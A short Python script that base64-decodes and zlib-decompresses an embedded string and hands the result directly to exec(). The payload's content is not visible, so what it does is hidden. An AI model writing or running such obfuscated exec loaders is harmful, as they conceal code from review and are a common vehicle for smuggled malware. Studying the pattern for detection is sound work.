# layers: base64 of zlib of code
import base64
import zlib

packed = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hQuXqAbn5Bal5GuoZJSUFxVb6+sn5OTmpySV6qRWJuQU5qfrqmkC1iSkamlwA4T4dOQ=="
exec(zlib.decompress(base64.b64decode(packed)))
